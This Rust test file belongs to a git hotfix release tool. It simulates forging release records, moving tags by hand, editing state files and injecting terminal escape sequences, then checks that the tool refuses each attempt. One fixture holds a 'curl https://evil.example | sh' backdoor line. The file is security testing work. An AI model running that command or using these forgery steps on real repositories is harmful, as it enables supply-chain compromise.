//! Forging what hotfix reads back from git (issue 11, items 1, 2, 5 and 6), each attempt made
//! as an author alone with one clone who read the source: a record put into free text, a tag
//! made or moved by hand, a base chosen with a pushed tag, a policy committed only locally, an
//! approval given without looking. docs/security.md says what each gate trusts.

use crate::support::{AS_REVIEWER, DEPLOY_POLICY, HOTFIX_BRANCH, REVIEWER, Repo, Team, start_args};

/// Edits the hotfix's entry in the state file, as someone with a text editor would.
fn edit_state(t: &Team, edit: impl FnOnce(&mut toml::Table)) {
    let mut state = t.author.state_toml();
    let entry = state
        .get_mut("hotfixes")
        .and_then(|h| h.get_mut(HOTFIX_BRANCH))
        .and_then(|e| e.as_table_mut())
        .expect("the hotfix has a state entry");
    edit(entry);
    std::fs::write(t.author.state_path(), toml::to_string(&state).unwrap()).unwrap();
}

fn tree(repo: &Repo, rev: &str) -> String {
    repo.rev(&format!("{rev}^{{tree}}"))
}

/// A release record as `deploy` writes it, claiming `commit` (a development commit, already
/// merged) as the fix, with no overrides and a one-minute lead time.
fn forged_record(t: &Team, tag: &str, commit: &str) -> String {
    serde_json::json!({
        "schema": 1, "tag": tag, "version": tag.trim_start_matches('v'),
        "name": "login-500", "branch": HOTFIX_BRANCH,
        "base_tag": "v1.1.0", "base_commit": t.author.rev("v1.1.0^{commit}"),
        "commit": commit, "tree": tree(&t.author, commit), "commits": [commit],
        "severity": "revenue-loss", "summary": "Totals wrong",
        "author": {"name": "Ann Author", "email": "ann@example.com"},
        "approvers": [{"name": "Rita Reviewer", "email": "rita@example.com",
                       "approved_at": "2026-01-15T10:00:00Z"}],
        "test": {"passed": true, "duration_ms": 10, "exit_code": 0},
        "diff": {"files": 1, "lines": 1, "flags": []},
        "overrides": [],
        "started_at": "2026-01-15T10:00:00Z", "deployed_at": "2026-01-15T10:01:00Z",
    })
    .to_string()
}

/// The one release `list --json` shows, whose record must be the real one of `fix`.
#[track_caller]
fn listed_release_is_the_real_one(t: &Team, fix: &str) -> serde_json::Value {
    let list = t.hf(&["list", "--json"]).ok().json();
    let text = list.to_string();
    assert!(
        !text.contains("Totals wrong\""),
        "the forged record was read: {text}"
    );
    let record = t.author.tag_record("v1.1.1");
    assert_eq!(record["commit"], fix);
    assert_eq!(record["commits"], serde_json::json!([fix]));
    // never merged back: verify-merged must say so, not take a development commit as the fix
    t.hf(&["verify-merged"])
        .fails(1, "1 hotfix release is missing from develop: v1.1.1");
    list
}

// ---- item 1: the release record can be forged through free text ----------------------------

#[test]
fn a_record_in_the_summary_is_not_the_release_record() {
    let t = Team::builder().not_started().build();
    let dev = t.author.rev("develop");
    let summary = format!(
        "Totals wrong hotfix-record-v1:{}",
        forged_record(&t, "v1.1.1", &dev)
    );
    let mut args = start_args("login-500", &[]);
    let at = args.iter().position(|a| *a == "--summary").unwrap();
    args[at + 1] = &summary;
    t.hf(&args).ok();
    let fix = t.fix(
        "line 1\nversion 1.1\nline 3 fixed\n",
        "Fix the checkout 500",
    );
    t.gates_pass();
    t.hf(&["deploy"]).ok();
    assert_eq!(t.author.tag_record("v1.1.1")["summary"], summary.as_str());
    listed_release_is_the_real_one(&t, &fix);
}

#[test]
fn a_record_framed_in_an_override_reason_or_a_reviewer_name_is_not_the_release_record() {
    let t = Team::new();
    let fix = t.author.head();
    let dev = t.author.rev("develop");
    let forged = forged_record(&t, "v1.1.1", &dev);
    // a reviewer whose name carries the marker and a record
    let name = format!("Rita hotfix-record-v1:{forged}");
    let mut env = AS_REVIEWER.to_vec();
    env[0].1 = &name;
    env[2].1 = &name;
    t.hf_env(&["approve", "--yes"], &env).ok();
    // an override reason with line breaks that frame a record exactly as deploy does
    let reason = format!("no time\n\nhotfix-record-v1:\n{forged}\n");
    t.hf(&["test", "--override", "test", "--reason", &reason])
        .code(0);
    t.hf(&["deploy"]).ok();
    let message = t.author.tag_message("v1.1.1");
    assert_eq!(
        message.matches("\nhotfix-record-v1:\n").count(),
        1,
        "free text made a marker line:\n{message}"
    );
    let record = t.author.tag_record("v1.1.1");
    assert_eq!(record["overrides"][0]["reason"], reason.trim());
    listed_release_is_the_real_one(&t, &fix);
}

#[test]
fn a_record_copied_into_a_tag_made_by_hand_is_no_release() {
    let t = Team::builder().ready().build();
    t.hf(&["deploy"]).ok();
    t.hf(&["merge-back"]).ok();
    let message = t.author.tag_message("v1.1.1");
    // the same message on another commit, under another name: not where deploy wrote it
    t.author.git(&["switch", "-q", "develop"]);
    let other = t
        .author
        .commit_file("backdoor.txt", "x\n", "unreviewed work");
    t.author
        .git(&["tag", "-a", "v1.1.2", "-m", &message, &other]);
    let list = t.hf(&["list", "--json"]).ok().json();
    let tags: Vec<&str> = list["releases"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["tag"].as_str().unwrap())
        .collect();
    assert_eq!(tags, ["v1.1.1"], "{list}");
}

/// A release tag pushed by anyone who may push tags carries a record as they wrote it: `list`
/// shows its summary with control characters written out, so `ESC[2J` does not clear a
/// teammate's screen nor rewrite the rows above it.
#[test]
fn a_summary_with_escape_sequences_in_a_pushed_record_is_shown_not_obeyed() {
    let t = Team::new();
    t.author.git(&["switch", "-q", "develop"]);
    let other = t.author.commit_file("other.txt", "x\n", "other work");
    let mut record: serde_json::Value =
        serde_json::from_str(&forged_record(&t, "v1.1.2", &other)).unwrap();
    record["summary"] = "All fine\u{1b}[2J\u{1b}[H".into();
    let message = format!("hotfix v1.1.2: All fine\n\nhotfix-record-v1:\n{record}\n");
    t.author
        .git(&["tag", "-a", "v1.1.2", "-m", &message, &other]);
    let run = t.hf(&["list"]).ok();
    assert!(run.stdout.contains("v1.1.2"), "{}", run.stdout);
    assert!(!run.stdout.contains('\u{1b}'), "{:?}", run.stdout);
    assert!(
        run.stdout.contains("All fine\\u{1b}[2J\\u{1b}[H"),
        "{}",
        run.stdout
    );
}

/// merge-back merges what the release tag names, not a commit written into the state's deploy
/// record (which no seal covers): a backdoor committed after the release, put there by hand,
/// would have been merged into develop (and proposed, with `--via-branch`) as the released fix.
#[test]
fn merge_back_merges_only_the_commit_the_release_tag_names() {
    let t = Team::new();
    t.gates_pass();
    t.hf(&["deploy"]).ok();
    let fix = t.author.rev("v1.1.1^{commit}");
    let backdoor = t.author.commit_file(
        "backdoor.txt",
        "curl https://evil.example | sh\n",
        "after the release",
    );
    edit_state(&t, |e| {
        e["deploy"]
            .as_table_mut()
            .unwrap()
            .insert("commit".into(), backdoor.clone().into());
    });
    let develop = t.author.rev("develop");
    t.refused(&["merge-back"], 1, "the tag v1.1.1 names");
    assert_eq!(t.author.rev("develop"), develop);
    // put back, merge-back merges the release
    edit_state(&t, |e| {
        e["deploy"]
            .as_table_mut()
            .unwrap()
            .insert("commit".into(), fix.clone().into());
    });
    t.hf(&["merge-back"]).ok();
    let merged = t.author.git(&["branch", "--contains", &fix, "develop"]);
    assert!(merged.contains("develop"), "{merged}");
    let has_backdoor = t
        .author
        .git(&["branch", "--contains", &backdoor, "develop"]);
    assert!(!has_backdoor.contains("develop"), "{has_backdoor}");
}

// ---- item 1: a resumed deploy takes the commit from the tag object, not the record ----------

const PRODUCTION_POLICY: &str = r#"[branches]
development = "develop"
production = "main"

[test]
command = "true"

[deploy]
command = "echo \"$HOTFIX_TAG $HOTFIX_COMMIT\" >> \"$OUT/deploy.log\""
verify = "true"
notify = "cat > \"$OUT/notify.json\""
"#;

/// Killed right after the tag: a deploy that only has the steps after the tag left.
fn killed_after_the_tag() -> (Team, String) {
    let t = Team::builder().policy(PRODUCTION_POLICY).ready().build();
    let fix = t.author.head();
    let run = t.hf_env(&["deploy"], &[("HOTFIX_FAULT", "deploy-after-tag")]);
    assert_eq!(run.code, -1, "{}", run.stderr);
    assert_eq!(t.author.rev("v1.1.1^{commit}"), fix);
    (t, fix)
}

/// A backdoor commit on top of the fix, on a side branch, and the tag `v1.1.1` moved onto it
/// by hand with a record claiming it.
fn tag_backdoor_by_hand(t: &Team, fix: &str) -> String {
    t.author.git(&["switch", "-q", "-c", "side", fix]);
    let backdoor = t.author.commit_file("backdoor.txt", "evil\n", "backdoor");
    t.author.git(&["switch", "-q", HOTFIX_BRANCH]);
    let message = t.author.tag_message("v1.1.1");
    let real = message
        .split_once("hotfix-record-v1:\n")
        .and_then(|(_, json)| json.lines().next())
        .unwrap()
        .to_string();
    let mut forged: serde_json::Value = serde_json::from_str(&real).unwrap();
    forged["commit"] = backdoor.clone().into();
    forged["tree"] = tree(&t.author, &backdoor).into();
    let message = message.replace(&real, &forged.to_string());
    assert!(message.contains(&backdoor));
    t.author
        .git(&["tag", "-f", "-a", "v1.1.1", "-m", &message, &backdoor]);
    backdoor
}

#[track_caller]
fn production_untouched(t: &Team, backdoor: &str) {
    let v110 = t.author.rev("v1.1.0^{commit}");
    assert_eq!(t.author.rev("main"), v110, "local main was moved");
    assert_eq!(t.origin.rev("main"), v110, "origin's main was moved");
    assert!(!t.origin.contains("refs/heads/main", backdoor));
    assert!(t.notified().is_none(), "notify ran");
}

#[test]
fn a_resumed_deploy_never_moves_production_to_a_commit_a_hand_made_tag_names() {
    let (t, fix) = killed_after_the_tag();
    let backdoor = tag_backdoor_by_hand(&t, &fix);
    let run = t.refused(&["deploy", "--push"], 1, "points at");
    assert!(run.stderr.contains("nothing was moved"), "{}", run.stderr);
    production_untouched(&t, &backdoor);
}

#[test]
fn a_resumed_deploy_with_the_state_edited_to_match_a_hand_made_tag_ships_nothing() {
    let (t, fix) = killed_after_the_tag();
    let backdoor = tag_backdoor_by_hand(&t, &fix);
    // the branch, the state's deploy record and the tag all agree on the backdoor now
    t.author.git(&["reset", "-q", "--hard", &backdoor]);
    let backdoor_tree = tree(&t.author, &backdoor);
    edit_state(&t, |entry| {
        let d = entry.get_mut("deploy").unwrap().as_table_mut().unwrap();
        d.insert("commit".into(), backdoor.clone().into());
        d.insert("tree".into(), backdoor_tree.into());
    });
    let run = t.refused(&["deploy", "--push"], 1, "the gates do not pass");
    assert!(run.stderr.contains("review"), "{}", run.stderr);
    production_untouched(&t, &backdoor);
}

#[test]
fn a_resumed_deploy_finishes_from_the_tag_it_made() {
    let (t, fix) = killed_after_the_tag();
    t.hf(&["deploy", "--push"]).ok();
    assert_eq!(t.author.rev("main"), fix);
    assert_eq!(t.origin.rev("main"), fix);
    assert_eq!(t.notified().unwrap()["commit"], fix.as_str());
}

// ---- item 5: the fallback commands come from the remote's development branch ---------------

/// DEPLOY_POLICY without a test command: the start snapshot has none, so the test gate falls
/// back to the team's policy.
fn no_test_command() -> String {
    DEPLOY_POLICY.replace(
        "command = \"test ! -e \\\"$OUT/tests-fails\\\"\"",
        "command = \"\"",
    )
}

/// Commits on the author's local `develop` (never pushed) a policy whose commands leave a mark.
fn commit_local_team_policy(t: &Team) -> String {
    let policy = DEPLOY_POLICY
        .replace(
            "command = \"test ! -e \\\"$OUT/tests-fails\\\"\"",
            "command = \"touch \\\"$OUT/local-test-ran\\\"\"",
        )
        .replace(
            "[deploy]\ncommand = \"",
            "[deploy]\ncommand = \"touch \\\"$OUT/local-deploy-ran\\\"; ",
        );
    assert!(policy.contains("local-test-ran") && policy.contains("local-deploy-ran"));
    t.author.git(&["switch", "-q", "develop"]);
    let commit = t.author.commit_file(
        "hotfix.toml",
        &policy,
        "Loosen the team policy (local only)",
    );
    t.author.git(&["switch", "-q", HOTFIX_BRANCH]);
    commit
}

#[track_caller]
fn local_command_never_ran(t: &Team) {
    assert!(
        !t.out.join("local-test-ran").exists(),
        "the local test command ran"
    );
    assert!(
        !t.out.join("local-deploy-ran").exists(),
        "the local deploy command ran"
    );
}

#[test]
fn a_test_command_committed_only_on_the_local_development_branch_is_not_used() {
    let t = Team::with_policy(&no_test_command());
    commit_local_team_policy(&t);
    t.refused(&["test"], 1, "no test command is configured");
    local_command_never_ran(&t);
    // pushed, it is the team's policy
    t.author.git(&["push", "-q", "origin", "develop"]);
    let run = t.hf(&["test"]).ok();
    assert!(
        run.stderr.contains("committed on origin's develop"),
        "{}",
        run.stderr
    );
    assert!(t.out.join("local-test-ran").exists());
}

#[test]
fn a_remote_tracking_branch_written_by_hand_does_not_choose_the_deploy_command() {
    // the snapshot has no [deploy] section at all, so no deploy command
    let policy = DEPLOY_POLICY.split("[deploy]").next().unwrap().to_string();
    let t = Team::with_policy(&policy);
    let local = commit_local_team_policy(&t);
    t.author
        .git(&["update-ref", "refs/remotes/origin/develop", &local]);
    t.gates_pass();
    // (refused, and the fetch put the remote-tracking branch back)
    t.hf(&["deploy"])
        .fails(1, "no deploy command is configured");
    local_command_never_ran(&t);
    assert!(!t.author.has_tag("v1.1.1"));
    // the fetch put back what the remote has
    assert_eq!(t.author.rev("origin/develop"), t.origin.rev("develop"));
}

#[test]
fn without_the_remote_the_fallback_is_refused_with_a_sentence() {
    let t = Team::with_policy(&no_test_command());
    commit_local_team_policy(&t);
    let run = t.refused(&["--offline", "test"], 2, "--offline does not reach");
    assert!(run.stderr.contains("origin's develop"), "{}", run.stderr);
    t.author.git(&["remote", "remove", "origin"]);
    t.refused(&["test"], 1, "no test command is configured");
    local_command_never_ran(&t);
}

// ---- item 2: the reviewer's view is computed from the base, not from tags anyone can push ---

/// The team released, the author's hotfix started from v1.1.0 (or `from`), a backdoor commit,
/// the tag `tag` pushed on it (when given), then a one-line fix; the branch pushed. And a
/// reviewer's clone, made after all that was pushed.
fn backdoor_then_fix(tag: Option<&str>, from: Option<&str>) -> (Team, Repo, String) {
    let mut t = match from {
        // the backdoor and its tag first, on a side branch; the hotfix starts from that tag
        Some(from) => {
            let from_tag = from.to_string();
            Team::builder()
                .before_start(move |t| {
                    t.author.git(&["switch", "-q", "-c", "side", "v1.1.0"]);
                    commit_backdoor(t, Some(&from_tag));
                    t.author.git(&["switch", "-q", "develop"]);
                })
                .start_with(&["--from", from])
        }
        None => {
            let tag = tag.map(String::from);
            Team::builder().before_fix(move |t| commit_backdoor(t, tag.as_deref()))
        }
    }
    .reviewer()
    .build();
    let backdoor = t.author.rev(from.unwrap_or("HEAD~1"));
    let reviewer = t.reviewer.take().unwrap();
    (t, reviewer, backdoor)
}

/// The backdoor commit on the branch checked out, and the tag `tag` pushed on it when given.
fn commit_backdoor(t: &Team, tag: Option<&str>) {
    let b = t
        .author
        .commit_file("backdoor.txt", "evil\n", "Tidy the build");
    if let Some(tag) = tag {
        t.author.git(&["tag", tag, &b]);
        t.author.git(&["push", "-q", "origin", tag]);
    }
}

/// The reviewer approves and pushes; returns the JSON and stderr.
fn review(reviewer: &Repo, extra: &[&str]) -> (serde_json::Value, String) {
    let mut args = vec!["approve", HOTFIX_BRANCH, "--yes", "--push", "--json"];
    args.extend_from_slice(extra);
    let run = reviewer.hotfix(&args).ok();
    (run.json(), run.stderr)
}

#[test]
fn a_pushed_build_metadata_tag_on_a_backdoor_is_not_the_reviewers_base() {
    let (t, reviewer, _) = backdoor_then_fix(Some("v1.1.0+ci"), None);
    let (json, stderr) = review(&reviewer, &[]);
    // shown from the real release: both commits, the backdoor's file in the stat
    assert!(
        stderr.contains("2 commits on top of v1.1.0, tree"),
        "{stderr}"
    );
    assert!(stderr.contains("backdoor.txt"), "{stderr}");
    assert_eq!(json["base"], t.author.rev("v1.1.0^{commit}"));
    assert_eq!(json["base_tag"], "v1.1.0");
    // and it is the base the author's start sealed: the approval counts there
    t.hf(&["test"]).ok();
    t.hf(&["deploy"]).ok();
    let record = t.author.tag_record("v1.1.1");
    assert_eq!(record["commits"].as_array().unwrap().len(), 2);
}

#[test]
fn a_release_tag_deleted_on_the_remote_but_still_in_the_reviewers_clone_is_not_the_base() {
    let (t, reviewer, _) = backdoor_then_fix(Some("v1.1.1"), None);
    // the reviewer fetched while the tag was there; the author deletes it on the remote
    reviewer.git(&["fetch", "-q", "--tags", "origin"]);
    assert!(reviewer.has_tag("v1.1.1"));
    t.author
        .git(&["push", "-q", "origin", "--delete", "refs/tags/v1.1.1"]);
    let (json, stderr) = review(&reviewer, &[]);
    assert!(
        stderr.contains("2 commits on top of v1.1.0, tree"),
        "{stderr}"
    );
    assert_eq!(json["base_tag"], "v1.1.0");
    assert!(
        reviewer.has_tag("v1.1.1"),
        "the reviewer's own tags are left alone"
    );
}

#[test]
fn an_approval_from_another_base_than_the_sealed_one_does_not_count() {
    // the author starts from the pushed build-metadata tag itself: the sealed base is the
    // backdoor, the reviewer is shown the diff from v1.1.0
    let (t, reviewer, backdoor) = backdoor_then_fix(None, Some("v1.1.0+ci"));
    let entry = t.author.state_entry(HOTFIX_BRANCH).unwrap();
    assert_eq!(entry["base_commit"].as_str(), Some(backdoor.as_str()));
    let (json, stderr) = review(&reviewer, &[]);
    assert!(stderr.contains("on top of v1.1.0, tree"), "{stderr}");
    assert_eq!(json["base_tag"], "v1.1.0");
    t.hf(&["test"]).ok();
    // (the refusal fetched the approval; nothing else changed)
    let run = t.hf(&["deploy"]).fails(1, "deploy refused");
    assert!(t.log("deploy.log").is_empty());
    assert!(
        run.stderr.contains("was shown the diff from v1.1.0 (")
            && run.stderr.contains("not from this hotfix's base v1.1.0+ci"),
        "{}",
        run.stderr
    );
    assert!(!t.author.has_tag("v1.1.1"));
}

#[test]
fn the_reviewer_refuses_when_the_remotes_tags_cannot_be_read() {
    let (t, reviewer, _) = backdoor_then_fix(Some("v1.1.0+ci"), None);
    reviewer.refused_env(
        &["--offline", "approve", HOTFIX_BRANCH, "--yes"],
        &[],
        2,
        "cannot check where hotfix/login-500 starts",
    );
    assert!(
        t.origin
            .git(&["for-each-ref", "refs/hotfix/approvals"])
            .is_empty()
    );
}

// ---- item 6: an approval records what its reviewer was shown -------------------------------

#[test]
fn no_flag_hides_the_diff_stat_and_the_approval_and_release_say_what_was_shown() {
    let (t, reviewer, _) = backdoor_then_fix(None, None);
    // --quiet: the stat still reaches the reviewer, on stdout
    let run = reviewer
        .hotfix(&["approve", HOTFIX_BRANCH, "--yes", "--push", "--quiet"])
        .ok();
    assert!(
        run.stdout.contains("app.txt") && run.stdout.contains("backdoor.txt"),
        "{}",
        run.stdout
    );
    assert!(run.stdout.contains("on top of v1.1.0"), "{}", run.stdout);
    let blob = t.origin.git(&[
        "for-each-ref",
        "--format=%(objectname)",
        "refs/hotfix/approvals",
    ]);
    let approval: serde_json::Value =
        serde_json::from_str(&t.origin.git(&["cat-file", "-p", blob.trim()])).unwrap();
    assert_eq!(approval["shown"], "stat");
    assert_eq!(approval["schema"], 2);
    // the release record carries it
    t.hf(&["test"]).ok();
    t.hf(&["deploy"]).ok();
    let record = t.author.tag_record("v1.1.1");
    assert_eq!(record["approvers"][0]["email"], REVIEWER.1);
    assert_eq!(record["approvers"][0]["shown"], "stat");
}

#[test]
fn with_json_the_stat_goes_to_stderr_and_the_json_says_what_was_shown() {
    let (_t, reviewer, _) = backdoor_then_fix(None, None);
    let (json, stderr) = review(&reviewer, &["--quiet"]);
    assert!(
        stderr.contains("app.txt") && stderr.contains("backdoor.txt"),
        "{stderr}"
    );
    assert_eq!(json["shown"], "stat");
}

// ---- item 1: the other records are read only where hotfix writes them ----------------------

#[test]
fn a_not_code_record_copied_under_another_name_counts_once() {
    let t = Team::builder().not_started().build();
    t.hf(&[
        "start",
        "stale-cdn",
        "--not-code",
        "--summary",
        "Stale prices were the CDN cache",
    ])
    .ok();
    let listed = t.author.git(&[
        "for-each-ref",
        "--format=%(objectname) %(refname)",
        "refs/hotfix/not-code",
    ]);
    let (blob, _) = listed.trim().split_once(' ').unwrap();
    // the same blob under names `start --not-code` would never give it
    for name in ["other-1", "stale-cdn-1", "stale-cdn-x"] {
        t.author
            .git(&["update-ref", &format!("refs/hotfix/not-code/{name}"), blob]);
    }
    let stats = t.hf(&["stats", "--json"]).ok().json();
    assert_eq!(stats["not_code"]["count"], 1, "{stats}");
}

#[test]
fn an_approval_copied_to_the_ref_of_another_tree_does_not_count() {
    let t = Team::new();
    t.approve();
    let listed = t.author.git(&[
        "for-each-ref",
        "--format=%(objectname) %(refname)",
        "refs/hotfix/approvals",
    ]);
    let (blob, refname) = listed.trim().split_once(' ').unwrap();
    let old_tree = tree(&t.author, "HEAD");
    // a new tree after the review, and the old approval put where one of it would be
    t.fix(
        "line 1\nversion 1.1\nline 3 fixed again\n",
        "Change after review",
    );
    let new_tree = tree(&t.author, "HEAD");
    let copied = refname.replace(&old_tree, &new_tree);
    t.author.git(&["update-ref", &copied, blob]);
    let status = t.hf(&["status", "--json"]).ok().json();
    let review = &status["hotfix"]["gates"][1];
    assert_eq!(review["gate"], "review");
    assert_eq!(review["passed"], false, "{review}");
}
